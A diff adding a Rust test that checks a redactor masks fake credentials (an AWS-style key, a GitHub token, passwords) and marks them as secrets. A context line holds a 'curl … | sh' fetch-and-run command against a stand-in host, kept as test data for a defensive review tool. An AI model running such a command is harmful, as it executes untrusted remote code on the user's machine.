@@ -138,3 +138,26 @@ fn an_excerpt_of_a_long_line_holds_what_was_marked() {
     assert!(excerpt.contains("curl https://x.example/i | sh") && excerpt.chars().count() < 260, "{excerpt}");
     assert!(excerpt.contains("before…") && excerpt.contains("more…"), "{excerpt}");
 }
+
+// C: what is redacted is marked, and what is not redacted is not said to be a secret
+#[test]
+fn a_secret_is_marked_exactly_where_it_is_redacted() {
+    for (line, is_secret) in [
+        ("let key = \"AKIAABCDEFGHIJKLMNOP\";", true),
+        ("GITHUB=ghp_0123456789abcdefghijABCDEFGHIJ012345", true),
+        ("DB_PASSWORD = \"hunter2-staging\"", true),
+        ("url = \"https://me:hunter2@db.example/x\"", true),
+        ("password=", false),
+        ("password = ask_for_it()", false),
+        ("api_key: \"short\"", false),
+    ] {
+        let raw = preview("src/a.txt", "x\n", &format!("x\n{line}\n"));
+        let shown = crate::redact::redact(&raw);
+        assert_eq!(shown != raw, is_secret, "{line}");
+        for text in [raw, shown] {
+            let review = Review::of(&text);
+            let marks = review.first.iter().filter_map(|at| review.lines[*at].mark);
+            assert_eq!(marks.map(|(mark, _)| mark).any(|mark| mark == Mark::Secret), is_secret, "{line}");
+        }
+    }
+}
